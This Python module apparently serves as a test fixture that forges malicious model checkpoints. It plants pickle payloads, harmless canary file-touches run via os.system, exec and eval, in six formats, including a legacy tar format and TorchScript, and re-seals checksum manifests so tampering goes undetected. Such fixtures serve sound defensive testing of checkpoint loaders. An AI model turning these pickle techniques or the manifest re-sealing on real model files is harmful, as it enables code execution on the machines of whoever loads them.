"""Files that run code where a careless `torch.load` opens them; what they run makes a file.

Each style is (file of the checkpoint, what writes it). They are built as an attacker would: by hand
where a library would not do it.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import pickle
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

OPTIMIZER = "zero_pp_rank_0_mp_rank_00_optim_states.pt"
MODEL = "zero_pp_rank_0_mp_rank_00_model_states.pt"
Writer = Callable[[Path, Path], None]  # the file, which holds genuine state; the canary


class Runs:
    """Pickles to a call."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> Any:
        return self.call


def touching(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def in_genuine_state(file: Path, canary: Path) -> None:
    import torch

    state = torch.load(file, weights_only=False)
    torch.save({**state, "nmar": Runs(os.system, f"touch '{canary}'")}, file)


def as_a_tensor_name(file: Path, canary: Path) -> None:
    """Deep inside, as a key."""
    import torch

    state = torch.load(file, weights_only=False)
    state["param_shapes"] = [{Runs(exec, touching(canary)): torch.zeros(1)}]
    torch.save(state, file)


def before_zip(file: Path, canary: Path) -> None:
    import torch

    torch.save(Runs(eval, touching(canary)), file, _use_new_zipfile_serialization=False)


def by_hand(file: Path, canary: Path) -> None:
    """Protocol 0, which names its function in plain text."""
    file.write_bytes(f"cposix\nsystem\n(S\"touch '{canary}'\"\ntR.".encode())


def tar_of_old(file: Path, canary: Path) -> None:
    """Torch's first format, for which `weights_only` was once no protection."""
    evil = pickle.dumps(Runs(exec, touching(canary)), protocol=2)
    with tarfile.open(file, "w") as archive:
        for name, content in (("sys_info", evil), ("storages", pickle.dumps(1) + evil),
                              ("tensors", pickle.dumps(0)), ("pickle", evil)):  # fmt: skip
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))


def torchscript(file: Path, canary: Path) -> None:
    """A program; its pickled constants make the canary as well."""
    import zipfile

    import torch

    class Module(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + 1

    whole = io.BytesIO()
    torch.jit.save(torch.jit.script(Module()), whole)
    with zipfile.ZipFile(whole) as source, zipfile.ZipFile(file, "w") as target:
        for name in source.namelist():
            evil = pickle.dumps(Runs(exec, touching(canary)), protocol=2)
            target.writestr(name, evil if name.endswith("data.pkl") else source.read(name))


STYLES: dict[str, tuple[str, Writer]] = {
    "in genuine state": (OPTIMIZER, in_genuine_state),
    "as a tensor's name": (MODEL, as_a_tensor_name),
    "before zip": (OPTIMIZER, before_zip),
    "by hand": (MODEL, by_hand),
    "tar of old": (OPTIMIZER, tar_of_old),
    "torchscript": (MODEL, torchscript),
}


def seal(checkpoint: Path, manifest: dict[str, Any]) -> None:
    """Write a manifest that vouches for itself, as whoever knows the format can."""
    text = json.dumps({**manifest, "manifest_sha256": "0" * 64}, indent=1, sort_keys=True)
    digest = hashlib.sha256(text.encode()).hexdigest()
    (checkpoint / "manifest.json").write_text(text.replace("0" * 64, digest))


def poison(checkpoint: Path, style: str, canary: Path) -> None:
    """Put the payload into a checkpoint whose checksums all hold again."""
    name, write = STYLES[style]
    file = checkpoint / name
    write(file, canary)
    manifest = json.loads((checkpoint / "manifest.json").read_text())
    content = file.read_bytes()
    manifest["files"][name] = {
        "size": len(content),
        "sha256": hashlib.sha256(content).hexdigest(),
    }
    seal(checkpoint, manifest)
